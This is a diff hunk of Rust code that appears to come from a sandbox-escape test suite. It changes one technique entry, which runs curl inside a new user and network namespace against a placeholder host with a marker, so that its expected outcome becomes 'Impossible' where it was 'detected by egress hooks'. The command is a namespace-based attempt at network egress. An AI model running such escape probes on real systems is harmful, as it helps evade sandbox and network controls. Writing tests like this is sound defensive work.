@@ -91,7 +91,7 @@ const TECHNIQUES: &[Technique] = &[
     Technique {
         name: "a namespace of its own",
         steps: &["run unshare -Urn curl -s -m 3 http://{4}/{marker}"],
-        caught: DivertedOr(&["connect4", "egress", "sock_create"]),
+        caught: Impossible,
     },
     Technique {
         name: "a mount and user namespace of its own",
